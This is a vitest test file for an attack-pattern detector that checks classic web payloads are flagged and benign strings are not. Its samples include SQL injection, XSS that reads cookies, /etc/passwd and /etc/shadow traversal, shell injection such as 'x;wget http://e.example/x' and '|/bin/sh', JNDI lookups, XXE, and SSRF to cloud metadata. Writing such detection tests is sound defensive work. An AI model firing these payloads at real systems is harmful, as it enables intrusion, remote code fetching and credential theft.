// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks look like that
import { describe, expect, test } from 'vitest';
import { createDecodeChain, createDecoded } from '../../../baseline/parameters/decode/chain.ts';
import { createPatternMatcher, FAMILIES, normaliseSql } from '../../../baseline/parameters/patterns/matcher.ts';
import { createShapeReader } from '../../../baseline/parameters/shape.ts';
import { ParameterSource } from '../../../traces/segment.ts';

const chain = createDecodeChain();
const decoded = createDecoded();
const shapes = createShapeReader(7);
const matcher = createPatternMatcher();
const hits = { strong: 0, hints: 0, hintCount: 0 };

const match = (value: string): string[] => {
  const bytes = new TextEncoder().encode(value);
  chain.decode(bytes, 0, bytes.length, ParameterSource.body, decoded);
  matcher.match(decoded, shapes.read(decoded, bytes.length, ParameterSource.body, 1), hits);
  return FAMILIES.filter(({ id }) => hits.strong & (1 << id)).map(({ name }) => name);
};

const ATTACKS: readonly (readonly [string, readonly string[]])[] = [
  [
    'SQL injection',
    [
      "' OR 1=1--",
      "x' AND 'a'='a",
      "1') UNION ALL SELECT NULL,NULL,version()--",
      '1 union/**/select password from users',
      "admin'--",
      '1;DROP TABLE users',
      "1' AND SLEEP(5)#",
      "1' WAITFOR DELAY '0:0:5'--",
      '1 AND (SELECT COUNT(*) FROM information_schema.tables)>0',
      "'||(SELECT 1 FROM dual)||'",
      '1/*!50000UNION*//*!50000SELECT*/1,2',
      '1 or 3=3',
    ],
  ],
  [
    'cross-site scripting',
    [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      'javascript:alert(document.cookie)',
      "'-alert(1)-'",
      '<a href="java\tscript:alert(1)">x</a>',
    ],
  ],
  [
    'path traversal',
    ['../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', 'file:///etc/hosts', 'a/..;/manager'],
  ],
  [
    'command injection',
    [
      '; cat /etc/passwd',
      '| id',
      '$(whoami)',
      '`uname -a`',
      '&& ping -c 4 10.0.0.1',
      'x;wget http://e.example/x',
      '|/bin/sh',
    ],
  ],
  ['JNDI lookup', ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:rmi://x}', '${${::-j}${::-n}di:dns://x}']],
  ['template injection', ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '{{config.items()}}', "{{''.__class__.__mro__}}"]],
  [
    'deserialisation',
    ['rO0ABXNyABFqYXZh', 'O:8:"stdClass":1:{s:1:"a";i:1;}', '{"__proto__":{"a":1}}', '!!python/object/apply:os.system'],
  ],
  ['XML external entity', ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>']],
  ['CRLF injection', ['a\r\nSet-Cookie: x=1', 'x\nLocation: http://e.example']],
  [
    'server-side request forgery target',
    [
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:6379/',
      'http://localhost/admin',
      'gopher://10.0.0.1:11211/_x',
    ],
  ],
  ['NoSQL operator', ['{"$ne": null}', '{"$where": "sleep(100)"}', "' || '1'=='1"]],
];

const BENIGN = [
  "O'Brien",
  "rock 'n' roll",
  'select a colour from the list',
  'union square and market street',
  'Tom & Jerry; find more in the shop',
  'cats & dogs',
  'salt & pepper; more tail lights',
  'black and white or red',
  '"red shoes" or "blue shoes"',
  'what is 5 > 3?',
  'order by phone',
  'drop in and update your details',
  'Operating system (Linux)',
  'calle 5 # 12-34',
  'c/ mayor, 12, 3-b',
  'please confirm (yes)',
  'sleep well (8 hours)',
  'and so on...',
  'a/b testing',
  'user@example.com',
  '2026-08-01T10:00:00Z',
  'https://www.example.com/path?x=1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'gzip, deflate, br',
  'en-GB,en;q=0.9,de;q=0.8',
  '{"items":[{"sku":"A-1","count":2}],"note":"leave at the door; thanks"}',
  'price < 100 and size = large',
  "it's 50% off -- today only",
  'C# or Java?',
  'W/"5f3c-18a2b"',
  'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl',
  '(555) 123-4567',
  'id, name, created_at',
  'version 2.0 (beta)',
  // JNDI and templates: money, placeholders of mail merges, braces of JSON
  'from $5 to ${amount}',
  'Dear {{first_name}}, your order',
  'jndi lookup tutorial',
  '{"a":{"b":{"c":1}}}',
  // deserialisation and XML: plain base64, an XML document without a declaration of entities
  'aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=',
  '<?xml version="1.0"?><order><id>17</id></order>',
  // line breaks of people
  'first line\r\nsecond line',
  'To whom it may concern\nRe: my order',
  // request targets: addresses and names of the world outside
  'https://example.org/latest/news',
  'http://8.8.8.8/',
  'my local shop',
  // operators: prices, class names, questions
  '$in stock now',
  'price=10&sort=asc',
  'where is my order',
  'please return this.',
  // paths
  '/images/2026/logo.png',
  'a..b',
  'to be continued...',
];

describe('attack patterns', () => {
  for (const [family, values] of ATTACKS) {
    test.each(values.map((value) => [value]))(`${family}: %s`, (value) => {
      expect(match(value)).toContain(family);
    });
  }

  test.each(BENIGN.map((value) => [value]))('nothing for certain in: %s', (value) => {
    expect(match(value)).toEqual([]);
  });

  test('found behind encodings', () => {
    expect(match(Buffer.from("1' UNION SELECT password FROM users--").toString('base64'))).toContain('SQL injection');
    expect(match('%253Cscript%253Ealert(1)')).toContain('cross-site scripting');
    expect(match('\\u003cscript\\u003e')).toContain('cross-site scripting');
  });

  test('found in names', () => {
    matcher.matchName('user[$ne]', hits);
    expect(hits.strong).not.toBe(0);
    matcher.matchName('page_size', hits);
    expect(hits.strong).toBe(0);
  });

  test('comments are blanks to SQL, also unclosed and versioned ones', () => {
    expect(normaliseSql('union/**/select')).toBe('union select');
    expect(normaliseSql('/*!50000union*/ select')).toBe(' union select');
    expect(normaliseSql('a/*b')).toBe('a ');
    expect(normaliseSql('a/*b/*c')).toBe('a ');
  });

  // Ends within the test's time-out or not at all: a nested quantifier would take years on these.
  test.each(
    [
      "' or ",
      '(',
      'select ',
      '/*',
      '<a ',
      '${',
      '{{',
      '../',
      '; ',
      'a=',
      '\'"',
      'on',
      'union ',
      '<!doctype ',
      '\r\nx-',
      'http://a@',
      '$$nd_func',
      ' ',
      '"@type" ',
      'insert into a',
    ].map((fragment) => [fragment]),
  )('hostile repetition of %s stays cheap', (fragment) => {
    const value = fragment.repeat(Math.ceil(12_000 / fragment.length));
    match(value);
    match(`${value}!`);
    expect(hits.hintCount).toBeGreaterThanOrEqual(0);
  });
});
